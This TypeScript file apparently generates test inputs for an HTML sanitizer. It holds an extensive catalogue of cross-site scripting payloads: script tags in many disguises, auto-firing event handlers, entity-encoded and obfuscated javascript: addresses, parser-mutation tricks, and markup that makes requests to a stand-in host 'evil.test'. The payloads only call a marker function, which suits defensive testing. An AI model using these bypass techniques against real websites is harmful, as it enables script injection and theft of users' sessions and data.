/**
 * Hostile markup: if it is not sanitized, a browser runs its script or requests something from another host. Most snippets
 * combine one way to carry a script with one way to disguise it.
 */
export interface Snippet {
  readonly name: string;
  readonly html: string;
  /** The address that the markup requests. If undefined, the markup runs a script, which calls `top.ran(number)`. */
  readonly asks?: string;
}

/** The host that must get no requests. */
export const evilOrigin = 'http://evil.test';

/** Creates a snippet's markup for a script. */
type Carrier = (script: string) => string;
type Named<T> = readonly (readonly [name: string, value: T])[];

const scheme = ['javascript', ''].join(':');
const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=';

const scriptTypes =
  'text/javascript application/javascript application/ecmascript application/x-ecmascript application/x-javascript text/ecmascript text/javascript1.0 text/javascript1.5 text/jscript text/livescript text/x-ecmascript text/x-javascript module';

const scripts: Named<Carrier> = [
  ['plain', (js) => `<script>${js}</script>`],
  ['upper case', (js) => `<SCRIPT>${js}</SCRIPT>`],
  ['mixed case', (js) => `<ScRiPt>${js}</sCrIpT>`],
  ['space in the end tag', (js) => `<script>${js}</script >`],
  ['attribute in the end tag', (js) => `<script>${js}</script x>`],
  ['line break in the tag', (js) => `<script\n>${js}</script\n>`],
  ['tab in the tag', (js) => `<script\t>${js}</script>`],
  ['slash in the tag', (js) => `<script/x>${js}</script>`],
  ['form feed in the tag', (js) => `<script\f>${js}</script>`],
  ['never closed paragraph before', (js) => `<p><b><i><script>${js}</script>`],
  ['after a bogus comment', (js) => `<!><script>${js}</script>`],
  ['after an abrupt comment', (js) => `<!--><script>${js}</script>-->`],
  ['after an abrupt dashed comment', (js) => `<!---><script>${js}</script>-->`],
  ['after a comment ended with a bang', (js) => `<!-- x --!><script>${js}</script>`],
  ['after a bogus CDATA section', (js) => `<![CDATA[><script>${js}</script>]]>`],
  ['after a processing instruction', (js) => `<?x ?><script>${js}</script>`],
  ['after a stray end tag', (js) => `</x y="<"><script>${js}</script>`],
  ['after a doctype', (js) => `<!doctype html><script>${js}</script>`],
  ['in a table', (js) => `<table><script>${js}</script></table>`],
  ['in a table row', (js) => `<table><tr><script>${js}</script></tr></table>`],
  ['in a select', (js) => `<select><script>${js}</script></select>`],
  ['in SVG', (js) => `<svg><script>${js}</script></svg>`],
  ['in SVG, as entities', (js) => `<svg><script>${encodeEntities(js)}</script></svg>`],
  ['in SVG, in CDATA', (js) => `<svg><script><![CDATA[${js}]]></script></svg>`],
  ['in SVG, by href', (js) => `<svg><script href="data:text/javascript,${js}"></script></svg>`],
  ['in SVG, by xlink:href', (js) => `<svg><script xlink:href="data:text/javascript,${js}"></script></svg>`],
  ['in MathML', (js) => `<math><mtext><script>${js}</script></mtext></math>`],
  ['from a data address', (js) => `<script src="data:text/javascript,${js}"></script>`],
  ['from a base64 data address', (js) => `<script src="data:;base64,${btoa(js)}"></script>`],
  ['from a data address, later', (js) => `<script defer src="data:text/javascript,${js}"></script>`],
  ['with an HTML comment inside', (js) => `<script><!--\n${js}\n--></script>`],
  ['with escaped letters', (js) => `<script>${js.replaceAll('top', String.raw`\u0074op`)}</script>`],
  ...scriptTypes
    .split(' ')
    .map((type): readonly [string, Carrier] => [
      `of type ${type}`,
      (js) => `<script type="${type}">${js}</script>`,
    ]),
];

/** Handlers that run without interaction or on the first touch. */
const selfActing: Named<Carrier> = [
  ['img onerror', (js) => `<img src=/x onerror="${js}">`],
  ['img onload', (js) => `<img src="${pixel}" onload="${js}">`],
  ['image onerror', (js) => `<image src=/x onerror="${js}">`],
  ['img by srcset', (js) => `<img srcset=x onerror="${js}">`],
  ['picture', (js) => `<picture><source srcset=x><img onerror="${js}" src=/x></picture>`],
  ['svg onload', (js) => `<svg onload="${js}">`],
  ['svg onload, closed', (js) => `<svg onload="${js}"/>`],
  ['svg in svg', (js) => `<svg><svg onload="${js}"></svg></svg>`],
  ['svg image', (js) => `<svg><image href=x onerror="${js}"></image></svg>`],
  ['svg image by xlink', (js) => `<svg><image xlink:href=x onerror="${js}"></image></svg>`],
  ['svg animate', (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s></svg>`],
  ['svg set', (js) => `<svg><set onbegin="${js}" attributeName=x to=1></svg>`],
  [
    'svg animateTransform',
    (js) => `<svg><animateTransform onbegin="${js}" attributeName=transform dur=1s></svg>`,
  ],
  ['svg in foreignObject', (js) => `<svg><foreignObject><img src=/x onerror="${js}"></foreignObject></svg>`],
  ['svg style', (js) => `<svg><style onload="${js}"></style></svg>`],
  ['svg title', (js) => `<svg><title><img src=/x onerror="${js}"></title></svg>`],
  ['svg desc', (js) => `<svg><desc><img src=/x onerror="${js}"></desc></svg>`],
  ['body onload', (js) => `<body onload="${js}">`],
  ['body onpageshow', (js) => `<body onpageshow="${js}">`],
  ['iframe onload', (js) => `<iframe onload="${js}"></iframe>`],
  ['iframe srcdoc', (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`],
  ['iframe srcdoc as entities', (js) => `<iframe srcdoc="&lt;script&gt;${js}&lt;/script&gt;"></iframe>`],
  ['object onerror', (js) => `<object data="x:" onerror="${js}"></object>`],
  ['video onerror', (js) => `<video src=/x onerror="${js}"></video>`],
  ['video source', (js) => `<video><source src=/x onerror="${js}"></video>`],
  ['video onloadstart', (js) => `<video src=/x onloadstart="${js}"></video>`],
  ['audio onerror', (js) => `<audio src=/x onerror="${js}"></audio>`],
  ['audio source', (js) => `<audio><source src=/x onerror="${js}"></audio>`],
  ['link onerror', (js) => `<link rel=stylesheet href=x onerror="${js}">`],
  ['link onload', (js) => `<link rel=stylesheet href="data:text/css," onload="${js}">`],
  ['style onload', (js) => `<style onload="${js}">a{}</style>`],
  ['script onerror', (js) => `<script src=/x onerror="${js}"></script>`],
  ['script onload', (js) => `<script src="data:," onload="${js}"></script>`],
  ['details ontoggle', (js) => `<details open ontoggle="${js}"><summary>x</summary>y</details>`],
  ['input onfocus', (js) => `<input autofocus onfocus="${js}">`],
  ['textarea onfocus', (js) => `<textarea autofocus onfocus="${js}"></textarea>`],
  ['select onfocus', (js) => `<select autofocus onfocus="${js}"></select>`],
  ['button onfocus', (js) => `<button autofocus onfocus="${js}">x</button>`],
  ['any element onfocus', (js) => `<p tabindex=1 autofocus onfocus="${js}">x</p>`],
  ['editable onfocus', (js) => `<p contenteditable autofocus onfocus="${js}">x</p>`],
  ['input image onerror', (js) => `<input type=image src=/x onerror="${js}">`],
  [
    'animation',
    (js) =>
      `<style>@keyframes k{}</style><p style="animation-name:k;animation-duration:1ms" onanimationstart="${js}">x</p>`,
  ],
  ['unknown element', (js) => `<unknown tabindex=1 onfocus="${js}">x</unknown>`],
  ['custom element', (js) => `<x-y onclick="${js}">x</x-y>`],
];

const handlerNames =
  'click dblclick mousedown mouseup mouseover mouseout mousemove mouseenter mouseleave contextmenu wheel auxclick pointerdown pointerup pointermove pointerover pointerout pointerenter pointerleave pointercancel gotpointercapture lostpointercapture touchstart touchend touchmove touchcancel keydown keyup keypress focus blur input change select submit reset invalid drag dragstart dragend dragenter dragleave dragover drop copy cut paste scroll animationend animationiteration play pause canplay ended volumechange cancel close toggle beforeinput selectstart slotchange cuechange formdata';

const handlers: Named<Carrier> = handlerNames
  .split(' ')
  .map((name): readonly [string, Carrier] => [`on${name}`, (js) => `<p on${name}="${js}">x</p>`]);

/** Writes all letters as numeric entities. */
const encodeEntities = (text: string, write: (code: number) => string = (code) => `&#${code};`): string =>
  Array.from(text, (char) => write(char.codePointAt(0) ?? 0)).join('');

/** Ways to spell an attribute's value. */
const spellings: Named<(js: string) => string> = [
  ['decimal', (js) => `"${encodeEntities(js)}"`],
  ['decimal, padded', (js) => `"${encodeEntities(js, (code) => `&#000000${code};`)}"`],
  ['decimal, unended', (js) => `"${encodeEntities(js, (code) => `&#${String(code).padStart(7, '0')}`)}"`],
  ['hexadecimal', (js) => `"${encodeEntities(js, (code) => `&#x${code.toString(16)};`)}"`],
  [
    'hexadecimal, upper case',
    (js) => `"${encodeEntities(js, (code) => `&#X${code.toString(16).toUpperCase()};`)}"`,
  ],
  [
    'named brackets',
    (js) => `"${js.replace('(', '&lpar;').replace(')', '&rpar;').replace('.', '&period;')}"`,
  ],
  ['single quotes', (js) => `'${js}'`],
  ['no quotes', (js) => js],
  ['spaces about the sign', (js) => ` "${js}"`],
  ['line break before', (js) => `\n"${js}"`],
  ['escaped letters', (js) => `"${js.replace('top', String.raw`\u0074\u006f\u0070`)}"`],
  ['escaped letters in braces', (js) => `"${js.replace('top', String.raw`\u{74}op`)}"`],
  ['comment inside', (js) => `"/**/${js}//"`],
  ['by name', (js) => `"window['to'+'p']${js.slice(3)}"`],
  ['through a constructor', (js) => `"[].map.constructor('${js}')()"`],
];

const attributeCarriers: Named<(value: string) => string> = [
  ['img', (value) => `<img src=/x onerror=${value}>`],
  ['svg', (value) => `<svg onload=${value}>`],
  ['video', (value) => `<video src=/x onerror=${value}></video>`],
  ['details', (value) => `<details open ontoggle=${value}><summary>x</summary></details>`],
];

/** Ways to write the tag itself. */
const tags: Named<Carrier> = [
  ['slashes between attributes', (js) => `<img/src="/x"/onerror="${js}"/>`],
  ['line breaks between attributes', (js) => `<img\nsrc=/x\nonerror="${js}"\n>`],
  ['tabs between attributes', (js) => `<img\tsrc=/x\tonerror="${js}"\t>`],
  ['form feeds between attributes', (js) => `<img\fsrc=/x\fonerror="${js}"\f>`],
  ['carriage returns between attributes', (js) => `<img\rsrc=/x\ronerror="${js}"\r>`],
  ['nothing between attributes', (js) => `<img src="/x"onerror="${js}">`],
  ['upper case attribute', (js) => `<IMG SRC=/x ONERROR="${js}">`],
  ['mixed case attribute', (js) => `<iMg sRc=/x oNeRrOr="${js}">`],
  ['brackets in an attribute before', (js) => `<img alt="><" src=/x onerror="${js}">`],
  ['quote as an attribute', (js) => `<img " src=/x onerror="${js}">`],
  ['backtick attribute', (js) => '<img ` src=/x onerror="' + js + '">'],
  ['sign before the name', (js) => `<img =x src=/x onerror="${js}">`],
  ['doubled opening', (js) => `<<img src=/x onerror="${js}">`],
  ['doubled tag', (js) => `<img <img src=/x onerror="${js}">`],
  ['name split by what is cut out', (js) => `<scr<script>ipt></script><img src=/x onerror="${js}">`],
  ['after an unended entity', (js) => `&lt<img src=/x onerror="${js}">`],
  ['end tag inside an attribute', (js) => `<p title="</p>"><img src=/x onerror="${js}">`],
  ['trailing comment', (js) => `<img src=/x onerror="${js}//`.concat('">')],
];

/** Ways to disguise a script as an address. */
const disguises: Named<(js: string) => string> = [
  ['plain', (js) => scheme + js],
  ['upper case', (js) => scheme.toUpperCase() + js],
  ['mixed case', (js) => `JaVaScRiPt:${js}`],
  ['leading space', (js) => ` ${scheme}${js}`],
  ['leading line break', (js) => `&#10;${scheme}${js}`],
  ['leading control character', (js) => `&#1;${scheme}${js}`],
  ['another leading control character', (js) => `&#31;${scheme}${js}`],
  ['raw control character', (js) => `\u0002${scheme}${js}`],
  ['tab inside', (js) => `java&#9;script:${js}`],
  ['raw tab inside', (js) => `java\tscript:${js}`],
  ['named tab inside', (js) => `java&Tab;script:${js}`],
  ['line break inside', (js) => `java&#10;script:${js}`],
  ['raw line break inside', (js) => `java\nscript:${js}`],
  ['named line break inside', (js) => `java&NewLine;script:${js}`],
  ['carriage return inside', (js) => `java&#13;script:${js}`],
  ['tab before the colon', (js) => `javascript&#9;:${js}`],
  ['named colon', (js) => `javascript&colon;${js}`],
  ['numbered colon', (js) => `javascript&#58;${js}`],
  ['all numbered', (js) => encodeEntities(scheme + js)],
  [
    'all numbered, unended',
    (js) => encodeEntities(scheme + js, (code) => `&#${String(code).padStart(7, '0')}`),
  ],
  ['all hexadecimal', (js) => encodeEntities(scheme + js, (code) => `&#x${code.toString(16)};`)],
  ['percent signs', (js) => `${scheme}${js.replace('(', '%28').replace(')', '%29')}`],
  ['comment and encoded line break', (js) => `${scheme}//x%0a${js}`],
  ['looks like a web address', (js) => `${scheme}//https://example.com/%0d%0a${js}`],
];

const addressCarriers: Named<(address: string) => string> = [
  ['link', (address) => `<a href="${address}">x</a>`],
  ['frame', (address) => `<iframe src="${address}"></iframe>`],
  ['form', (address) => `<form action="${address}"><button>x</button></form>`],
  ['button', (address) => `<form><button formaction="${address}">x</button></form>`],
  ['svg link', (address) => `<svg><a href="${address}"><text y=20>x</text></a></svg>`],
  ['svg xlink', (address) => `<svg><a xlink:href="${address}"><text y=20>x</text></a></svg>`],
];

const moreAddresses: Named<Carrier> = [
  ['area', (js) => `<map name=m><area href="${scheme}${js}" shape=default></map>`],
  ['submit input', (js) => `<form><input type=submit formaction="${scheme}${js}"></form>`],
  ['link with a base', (js) => `<base href="https://example.com/"><a href="${scheme}${js}">x</a>`],
  ['link in a link', (js) => `<a href="https://example.com/"><a href="${scheme}${js}">x</a></a>`],
  ['two addresses', (js) => `<a href="${scheme}${js}" href="https://example.com/">x</a>`],
];

/** Elements whose content is markup for some parsers and plain text for others. */
const rawElements = 'noscript style xmp iframe noembed noframes textarea title script';
const shells: Named<(inside: string) => string> = [
  ['bare', (inside) => inside],
  ['in a paragraph', (inside) => `<p>${inside}</p>`],
  ['in a table cell', (inside) => `<table><tr><td>${inside}</td></tr></table>`],
  ['in a form', (inside) => `<form>${inside}</form>`],
  ['after an open SVG', (inside) => `<svg></p>${inside}`],
  ['in MathML text', (inside) => `<math><mtext>${inside}</mtext></math>`],
  ['in an SVG’s foreign object', (inside) => `<svg><foreignObject>${inside}</foreignObject></svg>`],
];

const mutations: Named<Carrier> = [
  [
    'nested forms',
    (js) => `<form><math><mtext></form><form><mglyph><style></math><img src=/x onerror="${js}">`,
  ],
  ['style in SVG', (js) => `<svg></p><style><a id="</style><img src=/x onerror=${js}>">`],
  [
    'CDATA in SVG',
    (js) => `<svg><![CDATA[><img src=/x onerror="${js}">]]></svg><img src=/x onerror="${js}">`,
  ],
  ['comment in SVG style', (js) => `<svg><style>&lt;!--</style><img src=/x onerror="${js}">--&gt;</svg>`],
  [
    'annotation',
    (js) => `<math><annotation-xml encoding="text/html"><img src=/x onerror="${js}"></annotation-xml></math>`,
  ],
  [
    'paragraph ends SVG',
    (js) => `<svg><p><style><img src=/x onerror="${js}"></style></p></svg><img src=/x onerror="${js}">`,
  ],
  [
    'break ends MathML',
    (js) => `<math><br><style></math><img src=/x onerror="${js}">`.replace('<style>', ''),
  ],
  ['table ends a form', (js) => `<table><form><td></form><img src=/x onerror="${js}">`],
  ['comment in a comment', (js) => `<!-- <!-- --><img src=/x onerror="${js}"> -->`],
  ['conditional comment', (js) => `<!--[if gte IE 4]>--><img src=/x onerror="${js}"><!--<![endif]-->`],
  ['template beside', (js) => `<template><p></template><img src=/x onerror="${js}">`],
  ['select in a table', (js) => `<table><select><tr><td><img src=/x onerror="${js}">`],
  ['attribute that ends a comment', (js) => `<!--<p title="--><img src=/x onerror=${js}>">`],
];

/** Harmless markup around a hostile piece. */
const wrappers: Named<(inside: string) => string> = [
  ['paragraph', (inside) => `<p>Text ${inside} text</p>`],
  ['list', (inside) => `<ul><li>${inside}</li></ul>`],
  ['cell', (inside) => `<table><tbody><tr><td>${inside}</td></tr></tbody></table>`],
  ['quote', (inside) => `<blockquote>${inside}</blockquote>`],
  ['figure', (inside) => `<figure>${inside}<figcaption>x</figcaption></figure>`],
  ['details', (inside) => `<details open><summary>x</summary>${inside}</details>`],
  ['link', (inside) => `<a href="https://example.com/">${inside}</a>`],
  ['code', (inside) => `<pre><code>${inside}</code></pre>`],
  ['heading', (inside) => `<h2>${inside}</h2>`],
  ['deep', (inside) => `${'<b><i>'.repeat(30)}${inside}${'</i></b>'.repeat(30)}`],
];

const wrappedPieces: Named<Carrier> = [
  ['script', (js) => `<script>${js}</script>`],
  ['img', (js) => `<img src=/x onerror="${js}">`],
  ['svg', (js) => `<svg onload="${js}"></svg>`],
  ['frame', (js) => `<iframe src="${scheme}${js}"></iframe>`],
  ['style', (js) => `<style onload="${js}"></style>`],
];

/** Markup that requests something from another host without a script. */
const askers: Named<(address: string) => string> = [
  ['img', (at) => `<img src="${at}">`],
  ['img without a scheme', (at) => `<img src="${at.slice(5)}">`],
  ['img with backslashes', (at) => `<img src="${at.replaceAll('/', '\\')}">`],
  ['srcset', (at) => `<img srcset="${at} 1x">`],
  ['picture', (at) => `<picture><source srcset="${at}"><img></picture>`],
  ['stylesheet', (at) => `<link rel=stylesheet href="${at}">`],
  ['preload', (at) => `<link rel=preload as=image href="${at}">`],
  ['icon', (at) => `<link rel="stylesheet alternate" title=x href="${at}">`],
  ['import', (at) => `<style>@import "${at}";</style>`],
  ['font', (at) => `<style>@font-face{font-family:f;src:url(${at})}p{font-family:f}</style><p>x</p>`],
  ['style attribute', (at) => `<p style="background:url(${at})">x</p>`],
  ['style attribute, escaped', (at) => String.raw`<p style="background:\75 rl(${at})">x</p>`],
  ['list style', (at) => `<ul style="list-style-image:url(${at})"><li>x</ul>`],
  ['table background', (at) => `<table background="${at}"><tr><td>x</table>`],
  ['body background', (at) => `<body background="${at}">`],
  ['frame', (at) => `<iframe src="${at}"></iframe>`],
  ['object', (at) => `<object data="${at}"></object>`],
  ['embed', (at) => `<embed src="${at}">`],
  ['video', (at) => `<video src="${at}" preload=auto></video>`],
  ['poster', (at) => `<video poster="${at}"></video>`],
  ['audio', (at) => `<audio src="${at}" preload=auto></audio>`],
  ['input', (at) => `<input type=image src="${at}">`],
  ['svg image', (at) => `<svg><image href="${at}"/></svg>`],
  ['script', (at) => `<script src="${at}"></script>`],
  ['refresh', (at) => `<meta http-equiv=refresh content="0;url=${at}">`],
  ['base', (at) => `<base href="${at}/"><video poster=x></video>`],
];

const cross = <A, B>(
  first: Named<A>,
  second: Named<B>,
  join: (one: A, other: B) => Carrier,
): Named<Carrier> =>
  first.flatMap(([nameA, a]) =>
    second.map(([nameB, b]): readonly [string, Carrier] => [`${nameA}, ${nameB}`, join(a, b)]),
  );

const rawText: Named<(inside: string) => string> = rawElements
  .split(' ')
  .map((name): readonly [string, (inside: string) => string] => [
    name,
    (inside) => `<${name}><p title="</${name}>${inside}">`,
  ]);

const families: Readonly<Record<string, Named<Carrier>>> = {
  script: scripts,
  'acts by itself': selfActing,
  handler: handlers,
  spelling: cross(attributeCarriers, spellings, (carry, spell) => (js) => carry(spell(js))),
  tag: tags,
  address: cross(addressCarriers, disguises, (carry, hide) => (js) => carry(hide(js))),
  'more addresses': moreAddresses,
  'raw text': cross(shells, rawText, (shell, raw) => (js) => shell(raw(`<img src=/x onerror=${js}>`))),
  mutation: mutations,
  wrapped: cross(wrappers, wrappedPieces, (wrap, carry) => (js) => wrap(carry(js))),
};

/** Builds all snippets. Each reports its index in the list. */
export function buildSnippets(): readonly Snippet[] {
  const carriers = Object.entries(families).flatMap(([family, members]) =>
    members.map(([name, carry]) => ({ name: `${family}: ${name}`, carry })),
  );
  const running = carriers.map(({ name, carry }, number) => ({ name, html: carry(`top.ran(${number})`) }));
  const asking = askers.map(([name, ask], index) => {
    const asks = `${evilOrigin}/${running.length + index}`;
    return { name: `asks: ${name}`, html: ask(asks), asks };
  });
  return [...running, ...asking];
}
